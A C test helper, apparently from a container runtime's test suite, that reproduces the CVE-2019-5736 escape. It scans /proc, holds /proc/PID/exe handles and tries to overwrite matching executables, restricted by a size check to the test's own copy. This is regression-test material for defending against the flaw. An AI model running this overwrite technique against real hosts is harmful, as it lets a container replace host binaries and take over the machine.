/* SPDX-License-Identifier: MIT */
/*
 * Writes to an executable that a procfs at /proc shows (CVE-2019-5736): escape-exe SIZE. To spare
 * the machine it goes only for files of exactly that size: the test's copy, or a copy of that.
 * For each line on standard input it looks at all processes, keeps hold of such executables, and
 * tries to write to them and to all that it held before: one that runs is busy, one that ran is not.
 * It answers "held N wrote M" to each line.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>

#include "escape.h"

enum { MOST = 64 };

static struct stat held_files[MOST];
static int held[MOST], held_count, wrote;
static off_t size;

static int is_held(const struct stat *st)
{
    for (int i = 0; i < held_count; i++)
        if (held_files[i].st_dev == st->st_dev && held_files[i].st_ino == st->st_ino)
            return 1;
    return 0;
}

static void overwrite(const char *name)
{
    static const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC};
    for (unsigned i = 0; i < sizeof flags / sizeof *flags; i++) {
        int fd = open(name, flags[i]);
        if (fd >= 0 && write(fd, "PWNED", 5) == 5)
            wrote++;
        if (fd >= 0)
            close(fd);
    }
}

static void hold(const char *pid)
{
    char name[512];
    struct stat st;
    snprintf(name, sizeof name, "/proc/%s/exe", pid);
    int fd = open(name, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    if (fstat(fd, &st) < 0 || st.st_size != size || is_held(&st) || held_count == MOST) {
        close(fd);
        return;
    }
    held_files[held_count] = st;
    held[held_count++] = fd;
    overwrite(name);
}

static void look_round(void)
{
    struct dirent *entry;
    DIR *dir = opendir("/proc");
    while (dir && (entry = readdir(dir)) != NULL)
        if (isdigit((unsigned char)entry->d_name[0]))
            hold(entry->d_name);
    if (dir)
        closedir(dir);
}

int main(int argc, char **argv)
{
    char line[64], name[64];
    if (argc != 2)
        return 64;
    size = atol(argv[1]);
    puts("ready");
    fflush(stdout);
    while (fgets(line, sizeof line, stdin)) {
        look_round();
        for (int i = 0; i < held_count; i++) {
            snprintf(name, sizeof name, "/proc/self/fd/%d", held[i]);
            overwrite(name);
        }
        printf("held %d wrote %d\n", held_count, wrote);
        fflush(stdout);
    }
    return finish();
}
